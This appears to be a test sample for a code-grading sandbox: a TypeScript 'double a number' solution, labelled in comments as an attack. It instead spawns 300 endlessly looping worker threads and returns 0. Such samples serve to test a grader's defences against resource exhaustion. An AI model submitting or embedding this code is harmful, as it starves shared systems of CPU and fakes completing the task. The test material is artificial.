// attack: starts hundreds of threads that never rest
// points: 0
// dangerous: hundreds of threads would compete with everybody
// %%
// exercise 01.1 · Double a number
function double(n: number): any {
  const { Worker } = require("node:worker_threads");
  for (let i = 0; i < 300; i++) { try { new Worker("for (;;) {}", { eval: true }).on("error", () => {}); } catch {} }
  return new Promise((resolve) => setTimeout(() => resolve(0), 300));
}
